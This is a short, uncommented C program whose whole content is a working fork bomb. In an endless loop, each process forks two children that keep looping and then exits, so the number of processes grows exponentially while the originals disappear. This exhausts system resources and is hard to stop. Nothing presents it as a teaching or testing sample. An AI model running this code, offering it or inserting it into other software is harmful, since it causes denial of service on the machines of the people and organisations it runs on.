#include <unistd.h>
int main(void) {
  for (;;) {
    if (fork() == 0) continue;
    if (fork() > 0) _exit(0);
  }
}
